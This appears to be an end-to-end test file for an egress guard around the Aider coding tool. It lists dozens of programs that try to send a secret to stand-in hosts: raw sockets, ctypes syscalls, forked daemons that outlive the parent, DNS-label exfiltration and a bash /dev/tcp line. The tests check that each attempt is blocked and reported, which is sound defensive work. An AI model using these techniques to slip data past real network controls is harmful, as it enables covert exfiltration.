"""Ways out of a machine: each a small program, how the outside sees it, and the place by which it has to be reported.

``PYTHON`` in a command is Aider's own interpreter, so that the libraries are those that Aider brings along.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING

from e2e.world import DATAGRAMS, OUTSIDE, OUTSIDE_6, SECRET, SERVICE

from aider_guard.core.egress import Attempt, Place

if TYPE_CHECKING:
    from e2e.box import Seen

PYTHON = "PYTHON"
NOT_HERE = 77
"""A program's status where this system lacks what it is about (automake's word for a skipped test)."""


@dataclass(frozen=True)
class Way:
    """One way out."""

    id: str
    command: Sequence[str]
    named: str
    """``host:port``; of a Unix socket its path and 0; "" where it cannot be known."""
    kind: str = "connection"
    """How the witness sees it, at the latest when the program has ended."""
    port: int = 0
    is_slow: bool = False
    """Whether it takes seconds: large libraries."""
    may_lack: bool = False
    """Whether there are systems on which even the program alone gets nowhere; it ends with ``NOT_HERE`` there."""

    def reached(self, seen: Iterable[Seen]) -> bool:
        """Whether the witness saw it."""
        return any((one.kind, one.port) == (self.kind, self.port) for one in seen)

    def with_python(self, python: str) -> list[str]:
        """The command line with this interpreter."""
        return [python if word == PYTHON else word for word in self.command]


def check(way: Way, seen: Sequence[Seen], attempts: Sequence[Attempt]) -> None:
    """Raise AssertionError unless nothing got out and the way is among the attempts by host and port."""
    out = [str(one) for one in seen]
    assert out == [], f"{way.id} got out"
    places = {str(Place(one.host, one.port)) for one in attempts}
    assert not way.named or way.named in places, f"{way.id}: {way.named} is not in {places}"


def _python(program: str) -> list[str]:
    return [PYTHON, "-c", program]


def _web(name: str, program: str, port: int = 80, *, is_slow: bool = False) -> Way:
    """A library that asks for a page of a host of its own; what it says to a refusal is its affair."""
    scheme = "https" if port == 443 else "http"
    url = f"{scheme}://{name}.example.com/{SECRET}"
    command, place = _python(program.replace("URL", repr(url))), Place(f"{name}.example.com", port)
    return Way(name, command, str(place), port=port, is_slow=is_slow)


def _raw(
    name: str, program: str, port: int = 443, host: str = OUTSIDE, *, may_lack: bool = False
) -> Way:
    """A program that knows the address."""
    head = f"import os, socket, struct, sys\nTO, WORD = {(host, port)!r}, {SECRET.encode()!r}\n"
    return Way(name, _python(head + program), str(Place(host, port)), port=port, may_lack=may_lack)


def _udp(name: str, program: str, host: str = OUTSIDE, *, may_lack: bool = False) -> Way:
    return replace(_raw(name, program, DATAGRAMS, host, may_lack=may_lack), kind="datagram")


def _name(name: str, program: str) -> Way:
    way = _raw(name, program.replace("HOST", f"{SECRET}.{name}.example.com"), 53)
    return replace(way, named=f"{SECRET}.{name}.example.com:53", kind="name", port=0)


_HTTP_CLIENT = """
import http.client, urllib.parse
parts = urllib.parse.urlsplit(URL)
connection = http.client.HTTPConnection(parts.hostname, timeout=5)
connection.request("GET", parts.path)
connection.getresponse().read()
"""
_AIOHTTP = """
import aiohttp, asyncio
async def go():
    async with aiohttp.ClientSession() as session, session.get(URL) as response:
        await response.text()
asyncio.run(go())
"""
_OPENAI = """
import openai
openai.OpenAI(base_url=URL, api_key="none", max_retries=0, timeout=5).models.list()
"""
_LITELLM = """
import asyncio, os
os.environ["LITELLM_LOCAL_MODEL_COST_MAP"] = "True"
import litellm
said = dict(messages=[{"role": "user", "content": "hello"}], api_key="none", timeout=5, max_retries=0)
"""
_SYNC = "litellm.completion('openai/x', api_base=URL, **said)"
_ASYNC = "asyncio.run(litellm.acompletion('ollama_chat/x', api_base=URL, **said))"
_CONNECT = "s = socket.create_connection(TO, 5); s.sendall(WORD)"
_MPTCP = """
try: s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
except OSError: sys.exit(77)
s.connect(TO); s.sendall(WORD)
"""
_NO_6 = "if not os.path.exists('/proc/net/if_inet6'): sys.exit(77)\n"
_MAPPED = (
    f"s = socket.socket(socket.AF_INET6); s.connect(('::ffff:{OUTSIDE}', 443)); s.sendall(WORD)"
)
_SEND_TO = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(WORD, TO)"
_FAST_OPEN = "s = socket.socket(); s.sendto(WORD, 0x20000000, TO)"  # MSG_FASTOPEN
_FAST_OPEN_OPTION = "s = socket.socket(); s.setsockopt(6, 30, 1); s.connect(TO); s.sendall(WORD)"
_NOT_BLOCKING = """
import select
s = socket.socket(); s.setblocking(False); s.connect_ex(TO)
select.select([], [s], [], 5); s.sendall(WORD)
"""
_CTYPES = """
import ctypes
libc, s = ctypes.CDLL(None, use_errno=True), socket.socket()
to = struct.pack("=H", 2) + struct.pack("!H", TO[1]) + socket.inet_aton(TO[0]) + bytes(8)
if libc.connect(s.fileno(), to, len(to)): sys.exit(os.strerror(ctypes.get_errno()))
libc.send(s.fileno(), WORD, len(WORD), 0)
"""
_SENDMMSG = """
import ctypes
libc, s = ctypes.CDLL(None, use_errno=True), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
to = struct.pack("=H", 2) + struct.pack("!H", TO[1]) + socket.inet_aton(TO[0]) + bytes(8)
name, word = ctypes.create_string_buffer(to), ctypes.create_string_buffer(WORD, len(WORD))
one = struct.pack("PN", ctypes.addressof(word), len(WORD))
vector = ctypes.create_string_buffer(one)
head = struct.pack("PIxxxxPNPNixxxxIxxxx", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
all = ctypes.create_string_buffer(head, len(head))
if libc.sendmmsg(s.fileno(), all, 1, 0) != 1: sys.exit(os.strerror(ctypes.get_errno()))
"""
_ISOLATED = "import subprocess; sys.exit(subprocess.call([sys.executable, '-I', '-c', %r, TO[0], str(TO[1])]))"
_CHILD = "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 5).sendall(b'child')"
_DOUBLE_FORK = (
    """
if os.fork(): os.wait(); sys.exit()
if os.fork(): os._exit(0)
"""
    + _CONNECT
)
_AFTER_THE_END = (
    """
import ctypes, select
parent = ctypes.CDLL(None).syscall(434, os.getpid(), 0)  # pidfd_open(2)
if os.fork(): os._exit(0)
os.setsid()
select.select([parent], [], [])
"""
    + _CONNECT
)
_ASKED = "socket.getaddrinfo('HOST', 80)"
_ASKED_BY_HAND = """
labels = b"".join(bytes([len(one)]) + one for one in b"HOST".split(b"."))
query = b"xx\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\1\\0\\1"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.connect(TO); s.send(query); s.recv(512)
"""
_BASH = f"echo {SECRET} > /dev/tcp/{OUTSIDE}/443"
_SSH = "core.sshCommand=ssh -F /dev/null -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no"


WAYS = (
    _web("httpx", "import httpx; httpx.get(URL)"),
    _web("requests", "import requests; requests.get(URL)", 443),
    _web("urllib3", "import urllib3; urllib3.PoolManager(retries=False).request('GET', URL)"),
    _web("aiohttp", _AIOHTTP),
    _web("openai", _OPENAI, 443, is_slow=True),
    _web("litellm", _LITELLM + _SYNC, is_slow=True),
    _web("litellm-async", _LITELLM + _ASYNC, is_slow=True),
    _web("http-client", _HTTP_CLIENT),
    _web("urllib", "import urllib.request as u; u.urlopen(URL, timeout=5)", 443),
    _raw("tcp", _CONNECT),
    _raw("tcp-not-waiting", _NOT_BLOCKING),
    _raw("tcp-6", _NO_6 + _CONNECT, host=OUTSIDE_6, may_lack=True),
    _raw("tcp-mapped", _NO_6 + _MAPPED, may_lack=True),
    _raw("tcp-same-port", _CONNECT, 11434),
    _raw("mptcp", _MPTCP, may_lack=True),
    _raw("fast-open", _FAST_OPEN),
    _raw("fast-open-option", _FAST_OPEN_OPTION),
    _raw("ctypes", _CTYPES),
    _raw("isolated", _ISOLATED % _CHILD),
    _raw("double-fork", _DOUBLE_FORK),
    _raw("daemon", _AFTER_THE_END),
    _raw("bash", f"os.execvp('bash', ['bash', '-c', {_BASH!r}])"),
    _raw("dns-by-tcp", _CONNECT, 53),
    _udp("udp", _SEND_TO),
    _udp("udp-connected", "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(TO); s.send(WORD)"),
    _udp("udp-message", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([WORD], [], 0, TO)"),
    _udp("udp-messages", _SENDMMSG),
    _udp("udp-6", _NO_6 + "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(WORD, TO)", OUTSIDE_6,
         may_lack=True),
    _name("dns", _ASKED),
    _name("dns-by-hand", _ASKED_BY_HAND),
    Way("curl", ["curl", "-sSk", "-m", "9", "--noproxy", "*", "https://curl.example.com/"], "curl.example.com:443",
        port=443),
    Way("curl-address", ["curl", "-sS", "-m", "9", "--noproxy", "*", f"http://{OUTSIDE}/{SECRET}"], f"{OUTSIDE}:80",
        port=80),
    Way("git-https", ["git", "ls-remote", "https://git.example.com/a.git"], "git.example.com:443", port=443),
    Way("git-ssh", ["git", "-c", _SSH, "ls-remote", "ssh://git@ssh.example.com/a.git"], "ssh.example.com:22", port=22),
    _raw("service", _CONNECT, SERVICE, "127.0.0.1"),
    replace(_raw("service-datagram", _SEND_TO, SERVICE, "127.0.0.1"), kind="datagram"),
)  # fmt: skip
"""Each has to be reported by its place."""
